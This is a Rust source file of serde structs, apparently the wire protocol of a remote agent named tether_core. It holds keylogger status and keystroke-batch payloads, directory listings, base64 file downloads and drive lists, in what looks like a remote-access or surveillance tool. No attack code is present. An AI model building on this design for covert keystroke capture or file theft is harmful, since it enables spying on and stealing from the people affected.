//! Structured payload shapes carried inside responses.
//!
//! The agent builds these; the server decodes them.  Field names match the
//! wire exactly, so most structs are plain serde derives.

use serde::de::{DeserializeOwned, Error as DeError};
use serde::ser::{Error as SerError, SerializeMap};
use serde::{Deserialize, Deserializer, Serialize, Serializer};
use serde_json::{Map, Value};

/// Largest file the agent will send in a single `file_download` response.
pub const MAX_DOWNLOAD_BYTES: u64 = 10 * 1024 * 1024;

// ── Dialog and keystroke payloads ─────────────────────────────────────────────

/// Payload of a `popup` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PopupAnswer {
    /// The option the user chose, as reported by the dialog collaborator.
    pub button_pressed: String,
}

/// Payload of a `keylog_status` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeylogStatus {
    /// `"started"`, `"already_running"`, `"stopped"`, or `"not_running"`.
    pub status: String,
    pub message: String,
}

/// Payload of a `keylog_data` response.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct KeylogBatch {
    /// Seconds since the Unix epoch when the batch was relayed.
    pub timestamp: f64,
    pub data: String,
}

// ── Filesystem payloads ───────────────────────────────────────────────────────

/// Outcome of a filesystem operation.
///
/// On the wire both arms are flat objects distinguished by a leading
/// `"success"` boolean:
///
/// ```json
/// {"success":true,"path":"/tmp","parent_path":"/","items":[],...}
/// {"success":false,"error":"Path does not exist: /nope","path":"/nope"}
/// ```
#[derive(Debug, Clone, PartialEq)]
pub enum FsResult<T> {
    Ok(T),
    Err(FsFailure),
}

impl<T> FsResult<T> {
    /// Shorthand for a failure that names the offending path.
    pub fn failed(error: impl Into<String>, path: impl Into<String>) -> Self {
        FsResult::Err(FsFailure {
            error: error.into(),
            path: Some(path.into()),
        })
    }

    pub fn is_ok(&self) -> bool {
        matches!(self, FsResult::Ok(_))
    }
}

/// The failure arm of [`FsResult`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FsFailure {
    pub error: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub path: Option<String>,
}

impl<T: Serialize> Serialize for FsResult<T> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let (success, body) = match self {
            FsResult::Ok(value) => (true, serde_json::to_value(value)),
            FsResult::Err(failure) => (false, serde_json::to_value(failure)),
        };
        let Value::Object(fields) = body.map_err(S::Error::custom)? else {
            return Err(S::Error::custom("filesystem payload must be an object"));
        };

        let mut map = serializer.serialize_map(Some(fields.len() + 1))?;
        map.serialize_entry("success", &success)?;
        for (key, value) in &fields {
            map.serialize_entry(key, value)?;
        }
        map.end()
    }
}

impl<'de, T: DeserializeOwned> Deserialize<'de> for FsResult<T> {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        let mut object = Map::<String, Value>::deserialize(deserializer)?;
        let success = object
            .remove("success")
            .and_then(|v| v.as_bool())
            .ok_or_else(|| D::Error::missing_field("success"))?;
        let rest = Value::Object(object);
        if success {
            serde_json::from_value(rest)
                .map(FsResult::Ok)
                .map_err(D::Error::custom)
        } else {
            serde_json::from_value(rest)
                .map(FsResult::Err)
                .map_err(D::Error::custom)
        }
    }
}

/// Access bits as seen by the agent process.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Permissions {
    pub readable: bool,
    pub writable: bool,
    pub executable: bool,
}

/// What a directory entry is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum EntryKind {
    Directory,
    File,
    Other,
    /// The entry exists but could not be inspected.
    Error,
}

/// One row of a directory listing.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileEntry {
    pub name: String,
    pub path: String,
    #[serde(rename = "type")]
    pub kind: EntryKind,
    /// Size in bytes; always 0 for directories.
    pub size: u64,
    pub size_formatted: String,
    /// ISO-8601 modification time, or `"N/A"`.
    pub modified: String,
    pub permissions: Permissions,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
}

/// Success payload of a `file_list` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DirectoryListing {
    pub path: String,
    /// `None` at a filesystem root.
    pub parent_path: Option<String>,
    /// Directories first, then files; case-insensitive name order within each.
    pub items: Vec<FileEntry>,
    pub total_items: usize,
    pub timestamp: String,
}

/// Success payload of a `file_info` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileDetails {
    pub path: String,
    pub name: String,
    pub size: u64,
    pub size_formatted: String,
    #[serde(rename = "type")]
    pub kind: EntryKind,
    pub created: String,
    pub modified: String,
    pub accessed: String,
    pub permissions: Permissions,
    pub is_downloadable: bool,
}

/// Success payload of a `file_download` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FileContent {
    pub path: String,
    pub filename: String,
    pub size: u64,
    pub size_formatted: String,
    /// File bytes, standard base64.
    pub data: String,
    pub timestamp: String,
}

/// One mounted volume or drive letter.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Drive {
    pub letter: String,
    pub path: String,
    pub accessible: bool,
}

/// Success payload of a `drives_list` response.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DriveList {
    pub drives: Vec<Drive>,
    pub timestamp: String,
}

/// Formats a byte count with one decimal and a 1024-step unit.
///
/// ```rust
/// use tether_core::protocol::payloads::format_size;
///
/// assert_eq!(format_size(0), "0 B");
/// assert_eq!(format_size(1536), "1.5 KB");
/// ```
pub fn format_size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["B", "KB", "MB", "GB", "TB"];
    if bytes == 0 {
        return "0 B".to_string();
    }
    let mut size = bytes as f64;
    let mut unit = 0;
    while size >= 1024.0 && unit < UNITS.len() - 1 {
        size /= 1024.0;
        unit += 1;
    }
    format!("{size:.1} {}", UNITS[unit])
}

// ── Tests ─────────────────────────────────────────────────────────────────────
